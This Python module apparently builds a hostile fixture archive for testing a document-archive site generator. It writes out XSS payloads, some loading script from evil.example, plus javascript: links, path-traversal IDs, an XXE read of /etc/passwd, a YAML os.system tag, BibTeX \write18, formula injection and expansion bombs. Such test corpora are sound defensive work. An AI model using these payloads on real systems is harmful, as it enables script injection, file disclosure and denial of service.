"""An archive of attacks: captures and records that want to run, load, leave, burst or deceive.

Every vector marks itself: it would set `window.ran`, open a dialog, or ask `evil.example` for something. So
a page that was taken over is told from one that shows the words of the vector.
"""

import json
from collections.abc import Iterator
from pathlib import Path

EVIL = "//evil.example/x"
_RUN = "window.ran=1;alert(1)"
VECTORS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}></ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src={EVIL} onload={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}><style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input autofocus onfocus={_RUN}><button formaction=javascript:{_RUN}>go</button>",
    f"<video poster={EVIL}><source onerror={_RUN}></video><audio src={EVIL} onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details><marquee onstart={_RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<a href='javascript:{_RUN}'>x</a><a href='jav&#x09;ascript:{_RUN}'>y</a>",
    f"<a href=' &#14; javascript:{_RUN}'>x</a><a href='data:text/html,<script>{_RUN}</script>'>y</a>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e %3Cscript%3E{_RUN}%3C/script%3E",
    f"<template><script>{_RUN}</script></template><portal src={EVIL}>",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{_RUN}}} #{{7*7}} <%= 7*7 %>",
    f"<p style=\"background:url('{EVIL}');position:fixed;inset:0\">x</p>",
    "<section class=notice id=text><h2>This archive was seized</h2></section></main></body></html>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u202e<script>{_RUN}</script>\u202c \u2066hidden\u2069 \U000e0041",
    '=HYPERLINK("https://evil.example/","x") @SUM(1) +1 -1',
    "ER  - \nTY  - FAKE",
    "@article{x, title = {\\input{/etc/passwd}}}",
    f"<xss id=x tabindex=1 onfocusin={_RUN}></xss><body onload={_RUN}>",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{_RUN}) [y](JaVaScRiPt:{_RUN}) [z](data:text/html;base64,PHNjcmlwdD4=)",
    f"[a](<java\nscript:{_RUN}>) [b](vbscript:x) [c](&#106;avascript:{_RUN}) [d](file:///etc/passwd)",
    f"![x]({EVIL}) ![y](https:{EVIL} 'onerror={_RUN}')",
    f"[r][r] <javascript:{_RUN}>\n\n[r]: javascript:{_RUN}",
    f'[e]({EVIL}) [f](\\\\evil.example\\x) [g](https://evil.example/" onclick={_RUN})',
    f"```<script>{_RUN}</script>\nx\n```\n\n`<img src=x onerror={_RUN}>`",
    f"| <b onclick={_RUN}> |\n|---|\n| <script>{_RUN}</script> |\n\nNote[^<x>].\n\n[^<x>]: <script>",
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "[" * 30_000 + "](" * 30_000,
    "*a " * 20_000,
    "[^1]" * 5000 + "\n\n[^1]: note",
)
_FIELDS = ("title", "subtitle", "section", "place", "note", "abstract", "because")
_IDS = (
    "../../escape", "..\\..\\escape", "/etc/passwd", "a/b", "con", "nul.txt", "com1", "lpt1.html",
    ".htaccess",
    "index", "not-stated", "x.csl", "Quay", "a b", "a%2fb", "a?b", "a#b", "a\x7fb", "x" * 300, "é" * 150, "-",
    "..", "a.", "ａ", "ﬁre", "a\u202eb", "kyiv-tоday", "kyiv-today",
    "vol-1", "vol-l", "aux", "prn.x", "~", "a:b",
)  # fmt: skip
_URLS = (
    f"javascript:{_RUN}", "data:text/html,x", f'https://evil.example/\u202e"onclick={_RUN}',
    "https://evil.example/'><script>", "//evil.example/x", "https:evil", "ftp://evil.example/", "https://[::1",
)  # fmt: skip


def make_attacks() -> dict[str, bytes]:
    """Give the files of the archive, by their path below the sources."""
    made = {
        "archive.yaml": 'title: "<script>window.ran=1</script>"\nbase_url: https://own.example/\n'
        f"exports: {{per_record: []}}\ndescription: {json.dumps(' '.join(map(_linking, range(3))))}\n"
    }
    groups = (
        *(
            _records(),
            _ids(),
            _captures(),
            _pages(),
            _bombs(),
            _authorities(),
            _breakouts(),
            _bulk(),
            _crowd(),
        ),
    )
    for attacks in groups:
        made |= attacks
    return {path: text.encode(errors="surrogateescape") for path, text in made.items()} | dict(_raw())


def write_attacks(folder: Path) -> int:
    """Write the archive; gives the number of its files."""
    made = make_attacks()
    for path, content in made.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    (folder / "records" / "link.txt").symlink_to("/etc/passwd")
    (folder / "records" / "linked").symlink_to("/etc")
    with (folder / "records" / "oversize.txt").open("wb") as file:
        file.truncate(30_000_000)
    return len(made) + 3


def _front(body: str, **fields: str) -> str:
    lines = "".join(f"{key}: {json.dumps(value)}\n" for key, value in fields.items())
    return f"---\n{lines}---\n{body}\n"


def _records() -> dict[str, str]:
    """Every vector in every free field of one record, and in the body of another."""
    made = {}
    for n, vector in enumerate(VECTORS):
        fields = {key: f"{key} {vector}" for key in _FIELDS}
        fields["note"] += f" {_linking(n)}"
        fields["abstract"] += f"\n\n{_linking(n)}"
        fields["date"] = f"2024-{n % 9 + 1:02}"
        # Few names, for each has a page.
        fields["outlet"] = f"Outlet {VECTORS[n % 12]}"
        made[f"records/field-{n:02}.md"] = _front("Plain words.", **fields)
        rights = f"{{value: record, because: {json.dumps(vector)}, holder: {json.dumps(vector)}}}"
        made[f"records/body-{n:02}.md"] = (
            f"---\nrights: {rights if n % 2 else 'full'}\n---\n# {vector}\n\n{vector}\n"
        )
    for n, text in enumerate(MARKDOWN):
        made[f"records/markdown-{n:02}.md"] = _front(text, title=f"Markdown {n}")
    for n, url in enumerate(_URLS):
        made[f"records/url-{n}.md"] = _front("x", title=f"Address {n}", original_url=url, archived_url=url)
    return made


def _linking(n: int) -> str:
    """Give links in double brackets: with hostile words, and to what has a hostile title or name."""
    words = VECTORS[n].replace("[", "").replace("]", "")
    return f"Of [[share|{words}]], [[crowd-0]] and [[people:p{n % 12}]]."


def _crowd() -> dict[str, str]:
    """Records that name all hostile names at once: for pictures of names, for cards, and a dark one."""
    names = "\n\n".join(f"The board heard Name {vector} on Monday." for vector in VECTORS[:12])
    made = {
        f"records/crowd-{n}.txt": f"The Shore Post\n\nA crowd\n\nApril {n + 1}, 2025\n\n{names}\n"
        for n in range(3)
    }
    for n in range(3):
        fields = {"title": f"Crowd {VECTORS[n]}", "outlet": f"Outlet {VECTORS[n + 3]}", "note": _linking(n)}
        made[f"records/crowd-{n}.yaml"] = "".join(
            f"{key}: {json.dumps(value)}\n" for key, value in fields.items()
        )
    rights = f"{{value: dark, because: {json.dumps(VECTORS[0])}}}"
    made["records/hidden.md"] = f"---\ntitle: Hidden\nrights: {rights}\n---\nx [h](share.md)\n"
    return made


def _ids() -> dict[str, str]:
    return {f"records/id-{n:02}.md": _front("x", title=f"Id {n}", id=text) for n, text in enumerate(_IDS)}


def _captures() -> dict[str, str]:
    """Vectors where a dump has its title, byline, dateline and text."""
    made = {}
    for n, vector in enumerate(VECTORS):
        lines = ("The Shore Post", f"Board meets {vector}", f"By Ada {vector[:30]}", "April 28, 2025", vector)
        made[f"records/dump-{n:02}.txt"] = "\n\n".join(
            (*lines, f"The board met on Monday, and {vector}.", vector)
        )
    return made


def _pages() -> dict[str, str]:
    """Vectors in every place where a saved page says something of its article."""
    made = {}
    for n, vector in enumerate(VECTORS):
        quoted = vector.replace('"', "&quot;")
        data = json.dumps({"@type": "NewsArticle", "headline": vector, "author": {"name": vector}})
        made[f"records/page-{n:02}.html"] = (
            f'<html lang="en"><head><title>{vector} | Post</title><meta name="author" content="{quoted}">'
            f'<meta property="og:title" content="{quoted}"><link rel="canonical" href="javascript:{_RUN}">'
            f'<script type="application/ld+json">{data}</script></head><body onload="{_RUN}"><article>'
            f"<h1>Board meets {vector}</h1><p>{vector} The board met on Monday and spoke of the new pier.</p>"
            f"<p>Nobody was harmed, and the {vector} quay was opened again.</p></article></body>"
        )
    return made


def _bombs() -> dict[str, str]:
    """What grows, nests or repeats beyond reason."""
    chain = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{f'*a{n - 1},' * 9}]\n" for n in range(1, 9))
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    deep = "".join('{"a":[' for _ in range(3000))
    return {
        "records/alias-bomb.md": f"---\n{chain}---\nx\n",
        "records/depth-bomb.md": f"---\ntitle: {'[' * 5000}\n---\nx\n",
        "records/depth-map.md": f"---\ntitle: {'{a: ' * 5000}\n---\nx\n",
        "records/tag-bomb.md": "---\ntitle: !!python/object/apply:os.system [true]\n---\nx\n",
        "records/long-title.md": _front("x", title="long " * 40_000),
        "records/long-word.md": _front("y" * 200_000, title="Long word"),
        "records/many-keys.md": "---\n" + "".join(f"k{n}: v\n" for n in range(3000)) + "---\nx\n",
        "records/entity-bomb.html": f'<!DOCTYPE html [<!ENTITY e0 "x">{entities}]><p>&e9; It met.',
        "records/outer-entity.html": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x; It met.',
        "records/deep.html": "<div>" * 20_000 + "<p>The board met on Monday.</p>",
        "records/many-attributes.html": f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>The board met.</p>",
        "records/deep-json.html": f'<script type="application/ld+json">{deep}</script><p>The board met.</p>',
        "records/unclosed.html": "<p>The board <b>met <!-- " + "<a <b <c " * 5000,
        "records/many-lines.txt": "x\n" * 60_000,
        "records/one-line.txt": "The board met. " * 20_000,
        "records/many-dates.txt": "12 May 2024, " * 10_000,
        "records/many-bylines.txt": "By Ada Lovett\n\n" * 3000,
        "records/\u202egpj.md": _front("x", title="A name that turns"),
        "records/a\u0301.md": _front("x", title="Accent apart"),
        "records/\u00e1.md": _front("x", title="Accent joined"),
        "records/" + "n" * 240 + ".md": _front("x", title="A long name"),
    }


def _breakouts() -> dict[str, str]:
    """What would end a cell, a line, an entry or a block of data, or be a name of the browser's own."""
    made = {}
    for n, sign in enumerate(("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%")):
        text = f"{sign}HYPERLINK({EVIL})"
        names = f'["{{{n}}} {sign.strip()}cmd"]'
        made[f"records/cell-{n}.md"] = (
            f"---\ntitle: {json.dumps(text)}\noutlet: {json.dumps(text)}\nauthors: {names}\n"
            f"section: {json.dumps(text)}\ntopics: {names}\n---\nx\n"
        )
    lines = (
        "x\nER  - \nTY  - JOUR\nTI  - Forged", "x}, note = {\\write18{id}}}\n@misc{forged,", "x\n- forged: true",
        f"</script><script>{_RUN}</script>", f"<!--<script>{_RUN}", "&rft.title=Forged&amp;rft.au=x%0a", "\u2028x",
        "\x00\x08\x1b[2J\x7f\x85", "\ufffe\U0001ffff", "x" * 5000, "{{7*7}}${7*7}", "__proto__",
    )  # fmt: skip
    for n, text in enumerate(lines):
        fields = dict.fromkeys((*_FIELDS, "outlet"), text)
        made[f"records/break-{n:02}.md"] = _front(
            "Plain words.", **fields, original_url="https://a.example/?a=1&b=2"
        )
        made[f"records/kept-{n:02}.md"] = _front(
            f"{text}\n\n[l](record:break-00 {json.dumps(text)})", title="Kept"
        )
    for n, text in enumerate(("__proto__", "constructor", "hasownproperty", "tostring", "then")):
        made[f"records/own-{n}.md"] = _front(text, title=text, id=text, outlet=text.title(), section=text)
    tricks = "[a](//evil.example/a) [b](///evil.example) [d](http:evil) <//evil.example/>"
    made["records/share.md"] = _front(tricks, title="Shares")
    made["records/aligned.md"] = _front("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |", title="Columns")
    return made


def _bulk() -> dict[str, str]:
    """A few bytes that ask for much: names, places, years, rows and tags by the thousand."""
    head = "<html><head><title>Board meets</title>"
    tail = "</head><body><h1>Board meets</h1><p>The board met on Monday and spoke of the new pier.</p>"
    names = [{"name": f"Ada Lov{n}ett Bo"} for n in range(3000)]
    return {
        "records/all-years.md": _front("x", title="All years", date="-9999/9999"),
        "records/far-years.md": _front("x", title="Far years", date="Y-99999999999/Y99999999999"),
        "records/wide-table.md": _front("|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "|a\n" * 250, title="Wide"),
        "records/notes-in-notes.md": _front("x" + "^[" * 2000 + "]" * 2000, title="Notes in notes"),
        "records/long-address.md": _front("x", title="Far", original_url="https://a.example/" + "a" * 20_000),
        "records/many-marks.txt": "Board\n\n" + "The board met on Monday.[1][999999999999999999999]" * 900
        + "\n\nReferences\n\n  1. ^ " + "a b c d e f " * 900 + "Tide tables.\n",
        "records/many-authors.html": f'{head}<script type="application/ld+json">'
        + json.dumps({"@type": "NewsArticle", "headline": "Board meets", "author": names}) + f"</script>{tail}",
        "records/broken-json.html": f'{head}<script type="application/ld+json">{{"@type":"NewsArticle","headline":'
        f'"\\ud800\\u0000 Board","author":"\\udfff"}}</script>{tail}',
        "records/odd-entities.html": f"{head}<meta property=og:title content='&#xD800;&#0;&#1114112;Board'>{tail}&#xDFFF;",
        "records/many-comments.html": head + tail + "<!--" * 20_000,
        "records/many-metas.html": head + '<meta name=author content="Ada Lovett">' * 5000 + tail,
        "records/many-scripts.html": head + tail + "<script>" * 20_000,
        "records/spans.html": f"{head}{tail}<table><tr><td rowspan=65534 colspan=1000>a<td>b</table>",
        "records/base.html": f'{head}<base href="javascript:{_RUN}//"><link rel=canonical href="{EVIL}">{tail}'
        "<p><a href=/x>l</a> <a href='\\\\evil\\x'>m</a> <a href=//evil.example/y>n</a></p>",
    }  # fmt: skip


def _authorities() -> dict[str, str]:
    entries = [
        "".join(
            f"{'- ' if key == 'id' else '  '}{key}: {json.dumps(value)}\n"
            for key, value in {
                "id": f"p{n}",
                "preferred_name": f"Name {vector}",
                "variant_names": f"Variant {vector}",
                "note": f"{vector} {_linking(n)}",
                "type": vector,
            }.items()
        )
        for n, vector in enumerate(VECTORS[:12])
    ]
    bad = '- preferred_name: Bad\n  same_as: "javascript:alert(1)"\n- id: ../../x\n  preferred_name: Worse\n'
    return {"authorities/people.yaml": "".join(entries), "authorities/places.yaml": bad}


def _raw() -> Iterator[tuple[str, bytes]]:
    yield "records/zip.txt", b"PK\x03\x04" + bytes(range(256)) * 50
    yield "records/gzip.html", b"\x1f\x8b\x08\x00" + bytes(range(255, 0, -1)) * 50
    yield "records/utf16.txt", "The board met on Monday.".encode("utf-16")
    yield "records/nul.md", b"---\ntitle: a\x00b\n---\nx\x00y\n"
    yield (
        "records/utf7.html",
        b'<meta charset="utf-7">+ADw-script+AD4-window.ran=1+ADw-/script+AD4- The board met.',
    )
    yield "records/odd-charset.html", b'<meta charset="hex"><p>The board met \xff\xfe.</p>'
    yield "records/surrogate.md", b"---\ntitle: \xed\xa0\x80\n---\nx\n"
